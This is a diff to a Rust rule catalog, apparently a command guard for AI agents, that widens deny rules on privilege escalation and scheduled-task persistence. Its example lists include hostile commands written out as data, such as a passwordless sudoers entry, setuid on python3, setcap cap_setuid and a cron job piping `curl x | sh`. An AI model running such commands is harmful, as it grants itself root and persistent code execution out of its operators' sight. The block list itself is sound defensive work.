@@ -690,7 +690,7 @@ static CATALOG: &[RuleInfo] = &[
         category: "persistence",
         decision: DENY,
         asi: &["ASI03"],
-        description: "Writing the files that decide who may log in or act as whom: `/etc/sudoers` and `/etc/sudoers.d/`, `/etc/passwd`, `/etc/shadow`, `/etc/group`, `/etc/pam.d/`, `/etc/security/`, `/etc/ld.so.preload`, `/etc/ld.so.conf*`, polkit rules (`/etc/polkit-1/`, `/usr/share/polkit-1/rules.d/`), `/etc/sudo.conf`, and the kernel's knobs that name a program it runs as root (`/proc/sys/kernel/core_pattern`, `/proc/sys/kernel/modprobe`, `/sys/kernel/uevent_helper`); the account commands that grant root (`usermod -aG sudo`, `gpasswd -a u docker`, `adduser u wheel`, `useradd -o -u 0`, `visudo`); and a program given powers its caller lacks: the set-user-ID bit (`chmod u+s`, `chmod 4755`) or file capabilities (`setcap`). `install -m 4755` counts like `chmod`; `setcap` only for capabilities that are root in all but name (`cap_setuid`, `cap_sys_admin`, `cap_dac_override`, …, or all).",
+        description: "Writing the files that decide who may log in or act as whom: `/etc/sudoers` and `/etc/sudoers.d/`, `/etc/passwd`, `/etc/shadow`, `/etc/group`, `/etc/pam.d/`, `/etc/security/`, `/etc/ld.so.preload`, `/etc/ld.so.conf*`, polkit rules (`/etc/polkit-1/`, `/usr/share/polkit-1/rules.d/`), `/etc/sudo.conf`, and the kernel's knobs that name a program it runs as root (`/proc/sys/kernel/core_pattern`, `/proc/sys/kernel/modprobe`, `/sys/kernel/uevent_helper`); the account commands that grant root (`usermod -aG sudo`, `gpasswd -a u docker`, `adduser u wheel`, `useradd -o -u 0`, `visudo`); and a program given powers its caller lacks: the set-user-ID bit (`chmod u+s`, `chmod 4755`, `=4755`, `+4000`, `--reference=` a set-user-ID program such as `/usr/bin/passwd`, `rsync --chmod=u+s`), the set-group-ID bit on a program its group may run but not change (`chmod 2755`; a shared directory's `2775` or `g+s` is left alone) or file capabilities (`setcap`). `install -m 4755` counts like `chmod`; `setcap` only for capabilities that are root in all but name (`cap_setuid`, `cap_sys_admin`, `cap_dac_override`, …, or all).",
         why: "A line in sudoers or passwd, a PAM module or a preloaded library is root for whoever wrote it, on every later login.",
         catches: &[
             "echo 'dev ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/dev",
@@ -698,6 +698,7 @@ static CATALOG: &[RuleInfo] = &[
             "Write(/etc/pam.d/sshd)",
             "sudo usermod -aG docker agent",
             "sudo chmod u+s /usr/bin/python3",
+            "sudo chmod --reference=/usr/bin/passwd ./tool",
             "sudo setcap cap_setuid+ep ./tool",
         ],
         allows: &[
@@ -749,7 +750,7 @@ static CATALOG: &[RuleInfo] = &[
         category: "persistence",
         decision: DENY,
         asi: &["ASI05"],
-        description: "Installing scheduled tasks and services: `crontab` (other than `-l`), `/etc/cron*`, systemd user and system units, launchd agents, XDG autostart, upstart's `/etc/init/`; hooks the system runs as root on an event (`/etc/update-motd.d/`, udev rules, `/etc/modprobe.d/`, NetworkManager's `dispatcher.d/`, `/etc/logrotate.d/`); and installing a unit or job from a file elsewhere (`systemctl link|enable PATH`, `launchctl load|bootstrap PATH`) or from the command line (`launchctl submit`, a transient timer: `systemd-run --on-calendar=…`).",
+        description: "Installing scheduled tasks and services: `crontab` (other than `-l`), `at` and `batch` (other than `-l`, `-c`, `-r`), `loginctl enable-linger` (the user's services start at boot and outlive the session), `/etc/cron*`, systemd user and system units, launchd agents, XDG autostart, upstart's `/etc/init/`; hooks the system runs as root on an event (`/etc/update-motd.d/`, udev rules, `/etc/modprobe.d/`, NetworkManager's `dispatcher.d/`, `/etc/logrotate.d/`); and installing a unit or job from a file elsewhere (`systemctl link|enable PATH`, `launchctl load|bootstrap PATH`) or from the command line (`launchctl submit`, a transient timer: `systemd-run --on-calendar=…`).",
         why: "Scheduled tasks and services run code again and again, outside the session and out of sight.",
         catches: &[
             "echo '* * * * * curl x | sh' | crontab -",
@@ -760,9 +761,11 @@ static CATALOG: &[RuleInfo] = &[
             "systemctl --user link /home/user/project/agent.service",
             "launchctl load -w /tmp/agent.plist",
             "launchctl submit -l agent -- /tmp/agent",
+            "echo 'make deploy' | at midnight",
         ],
         allows: &[
             "crontab -l",
+            "atq",
             "systemctl --user status app",
             "systemctl --user enable --now app.service",
             "launchctl list",
